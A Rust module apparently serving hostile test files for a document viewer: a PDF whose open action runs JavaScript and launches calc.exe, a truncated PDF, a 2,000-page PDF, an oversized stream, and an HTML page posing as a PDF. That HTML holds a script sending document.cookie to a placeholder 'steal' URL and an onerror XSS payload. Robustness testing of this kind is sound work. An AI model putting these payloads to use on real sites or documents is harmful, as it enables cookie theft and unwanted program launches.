//! Hostile files under `/_files/hostile/`, each of one kind a document viewer must
//! survive: a PDF that asks to run script and launch a program, one cut short, one of
//! 2,000 pages, an HTML page sent as a PDF, and one larger than the desk's cap. The
//! demo world's file "Archivos Dudosos" lists them as its proofs of address.
//! Beside them, not listed by any detail, `scan-ccitt.pdf`: a black-and-white scan
//! whose only ink is a CCITT Group 4 image, which a viewer without its fax decoder
//! shows as a blank page.

use axum::body::{Body, Bytes};
use axum::http::header;
use axum::response::{IntoResponse, Response};
use serde_json::{Value, json};
use uuid::Uuid;

use crate::pdf::{self, Document, Font, Objects};

/// The names under `/_files/hostile/`, in the order the hostile file lists them.
pub const NAMES: [&str; 5] = [
    "script.pdf",
    "truncated.pdf",
    "pages-2000.pdf",
    "html.pdf",
    "oversize.pdf",
];

/// The size of `oversize.pdf`: 32 MiB, beyond the desk's 25 MiB cap on a document.
pub const OVERSIZE_BYTES: usize = 32 * 1024 * 1024;

pub const HTML: &str = "<!doctype html><html><head><title>Comprobante</title>\
<script>document.title='pwned';fetch('http://127.0.0.1:1/steal?c='+document.cookie)</script>\
</head><body><h1>Comprobante de domicilio</h1><img src=x onerror=alert(1)></body></html>\n";

/// The answer for `hostile/{name}`, or `None` for a name not in [`NAMES`].
pub fn serve(name: &str) -> Option<Response> {
    let pdf = |bytes: Vec<u8>| ([(header::CONTENT_TYPE, "application/pdf")], bytes).into_response();
    Some(match name {
        "script.pdf" => pdf(script()),
        "truncated.pdf" => pdf(truncated()),
        "pages-2000.pdf" => pdf(pages(2000)),
        "html.pdf" => pdf(HTML.as_bytes().to_vec()),
        "oversize.pdf" => oversize(),
        "scan-ccitt.pdf" => pdf(scan_ccitt()),
        _ => return None,
    })
}

/// A valid one-page PDF whose catalog runs JavaScript when opened (as its open
/// action and as document-level script) and whose page launches a program, both when
/// opened and from a link over the whole page.
pub fn script() -> Vec<u8> {
    let mut objects = Objects::default();
    let catalog = objects.reserve();
    let pages = objects.reserve();
    let font = objects.add("<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>");
    let javascript = objects.add(r"<< /Type /Action /S /JavaScript /JS (app.alert\(1\)) >>");
    let launch = objects.add("<< /Type /Action /S /Launch /F (calc.exe) /NewWindow true >>");
    let link = objects.add(format!(
        "<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /Border [0 0 0] /A {launch} 0 R >>"
    ));
    let contents = objects.add(pdf::stream(
        format!(
            "BT /F1 14 Tf 72 720 Td ({}) Tj ET",
            pdf::encode("Comprobante de domicilio")
        )
        .as_bytes(),
    ));
    let page = objects.add(format!(
        "<< /Type /Page /Parent {pages} 0 R /MediaBox [0 0 612 792] /Contents {contents} 0 R \
         /Resources << /Font << /F1 {font} 0 R >> >> /Annots [{link} 0 R] /AA << /O {launch} 0 R >> >>"
    ));
    objects.set(
        pages,
        format!("<< /Type /Pages /Kids [{page} 0 R] /Count 1 >>"),
    );
    objects.set(
        catalog,
        format!(
            "<< /Type /Catalog /Pages {pages} 0 R /OpenAction {javascript} 0 R \
             /Names << /JavaScript << /Names [(open) {javascript} 0 R] >> >> >>"
        ),
    );
    objects.finish(catalog)
}

/// The raw CCITT Group 4 data of a 1200 × 480 bilevel scan (a frame, "ESCANEO B/N", a
/// line of text and two bars), made once with ImageMagick 6.9 and committed:
///
/// ```text
/// convert -size 1200x480 xc:white -fill none -stroke black -strokewidth 8 \
///   -draw "rectangle 20,20 1179,459" -stroke none -fill black \
///   -font DejaVu-Sans-Bold -pointsize 72 -annotate +70+160 "ESCANEO B/N" \
///   -font DejaVu-Sans -pointsize 44 -annotate +70+260 "Comprobante de domicilio (CCITT G4)" \
///   -draw "rectangle 70,320 1130,350" -draw "rectangle 70,390 700,410" \
///   -monochrome group4:scan-ccitt.g4
/// ```
const SCAN_G4: &[u8] = include_bytes!("fixtures/scan-ccitt.g4");
const SCAN_SIZE: (usize, usize) = (1200, 480);

/// A one-page PDF whose only content is [`SCAN_G4`] as a 1-bit image (`/CCITTFaxDecode`,
/// `/K -1`: Group 4; 0 is black), drawn across the top of the page.
pub fn scan_ccitt() -> Vec<u8> {
    let (width, height) = SCAN_SIZE;
    let mut objects = Objects::default();
    let catalog = objects.reserve();
    let pages = objects.reserve();
    let mut image = format!(
        "<< /Type /XObject /Subtype /Image /Width {width} /Height {height} /ColorSpace /DeviceGray \
         /BitsPerComponent 1 /Filter /CCITTFaxDecode /DecodeParms << /K -1 /Columns {width} /Rows {height} >> \
         /Length {} >>\nstream\n",
        SCAN_G4.len()
    )
    .into_bytes();
    image.extend_from_slice(SCAN_G4);
    image.extend_from_slice(b"\nendstream");
    let image = objects.add(image);
    let contents = objects.add(pdf::stream(b"q 540 0 0 216 36 540 cm /Im1 Do Q"));
    let page = objects.add(format!(
        "<< /Type /Page /Parent {pages} 0 R /MediaBox [0 0 612 792] /Contents {contents} 0 R \
         /Resources << /XObject << /Im1 {image} 0 R >> >> >>"
    ));
    objects.set(
        pages,
        format!("<< /Type /Pages /Kids [{page} 0 R] /Count 1 >>"),
    );
    objects.set(catalog, format!("<< /Type /Catalog /Pages {pages} 0 R >>"));
    objects.finish(catalog)
}

/// A valid eight-page PDF cut at 60 % of its length: no cross-reference, no `%%EOF`.
pub fn truncated() -> Vec<u8> {
    let mut document = Document::default();
    for n in 1..=8 {
        let page = document.new_page();
        page.text(72.0, 720.0, 16.0, Font::Bold, "Estado de cuenta");
        for line in 0..30 {
            page.text(
                72.0,
                690.0 - line as f32 * 18.0,
                10.0,
                Font::Regular,
                &format!("Hoja {n}, movimiento {line}: depósito en efectivo"),
            );
        }
    }
    let mut bytes = document.to_bytes();
    bytes.truncate(bytes.len() * 6 / 10);
    bytes
}

/// A valid PDF of `count` pages, every page one short line: all share one content
/// stream and one font, so 2,000 pages take a few hundred kilobytes.
pub fn pages(count: usize) -> Vec<u8> {
    let mut objects = Objects::default();
    let catalog = objects.reserve();
    let tree = objects.reserve();
    let font = objects.add("<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>");
    let contents = objects.add(pdf::stream(
        b"BT /F1 12 Tf 72 720 Td (Anexo del comprobante de domicilio) Tj ET",
    ));
    let resources = objects.add(format!("<< /Font << /F1 {font} 0 R >> >>"));
    let kids: Vec<String> = (0..count)
        .map(|_| {
            let page = objects.add(format!(
                "<< /Type /Page /Parent {tree} 0 R /MediaBox [0 0 612 792] /Contents {contents} 0 R /Resources {resources} 0 R >>"
            ));
            format!("{page} 0 R")
        })
        .collect();
    objects.set(
        tree,
        format!(
            "<< /Type /Pages /Kids [{}] /Count {count} >>",
            kids.join(" ")
        ),
    );
    objects.set(catalog, format!("<< /Type /Catalog /Pages {tree} 0 R >>"));
    objects.finish(catalog)
}

/// A PDF header and comment lines of padding, [`OVERSIZE_BYTES`] in all, streamed in
/// 64 KiB chunks that share one buffer: nothing of it is kept between requests.
fn oversize() -> Response {
    const CHUNK: usize = 64 * 1024;
    let head = b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n";
    let mut line = [b' '; 64];
    line[0] = b'%';
    line[63] = b'\n';
    let padding = Bytes::from(line.repeat(CHUNK / 64));
    let mut first = padding.to_vec();
    first[..head.len()].copy_from_slice(head);
    let first = Bytes::from(first);
    let chunks = (0..OVERSIZE_BYTES / CHUNK).map(move |n| {
        Ok::<_, std::convert::Infallible>(if n == 0 {
            first.clone()
        } else {
            padding.clone()
        })
    });
    (
        [
            (header::CONTENT_TYPE, "application/pdf".to_owned()),
            (header::CONTENT_LENGTH, OVERSIZE_BYTES.to_string()),
        ],
        Body::from_stream(futures_util::stream::iter(chunks)),
    )
        .into_response()
}

/// The hostile file's proofs of address, "Comprobante 1" to "Comprobante 5", each
/// pointing at one of [`NAMES`].
pub fn proofs(document_id: Uuid, holder: &str, base_url: &str) -> Vec<Value> {
    NAMES
        .iter()
        .enumerate()
        .map(|(n, name)| {
            json!({
                "Categoria": "Domicilio", "Contexto": "Expediente",
                "Referencia": format!("Comprobante {}", n + 1),
                "ReferenciaId": document_id, "TipoDocumento": "Comprobante",
                "Subtipo": "Luz", "NombreTitular": holder,
                "Archivo": { "URL": format!("{base_url}/_files/hostile/{name}") },
            })
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_scan_is_served_beside_the_listed_files_with_its_fax_image() {
        assert!(!NAMES.contains(&"scan-ccitt.pdf"), "no detail lists it");
        assert!(serve("scan-ccitt.pdf").is_some());
        let bytes = scan_ccitt();
        let text = String::from_utf8_lossy(&bytes);
        assert!(
            text.contains(
                "/Filter /CCITTFaxDecode /DecodeParms << /K -1 /Columns 1200 /Rows 480 >>"
            )
        );
        let at = bytes
            .windows(SCAN_G4.len())
            .position(|w| w == SCAN_G4)
            .expect("the Group 4 data, as committed");
        let head = format!("/Length {} >>\nstream\n", SCAN_G4.len());
        assert!(bytes[..at].ends_with(head.as_bytes()));
        assert!(
            text.contains("/Im1 Do") && !text.contains("/Font"),
            "the image is all it draws"
        );
    }

    #[test]
    fn the_truncated_file_starts_as_a_pdf_and_has_no_end() {
        let bytes = truncated();
        assert!(bytes.starts_with(b"%PDF-1.4"));
        let text = String::from_utf8_lossy(&bytes);
        assert!(!text.contains("%%EOF") && !text.contains("xref"));
        assert!(
            text.matches("/Type /Page ").count() >= 2,
            "several pages survive"
        );
    }
}
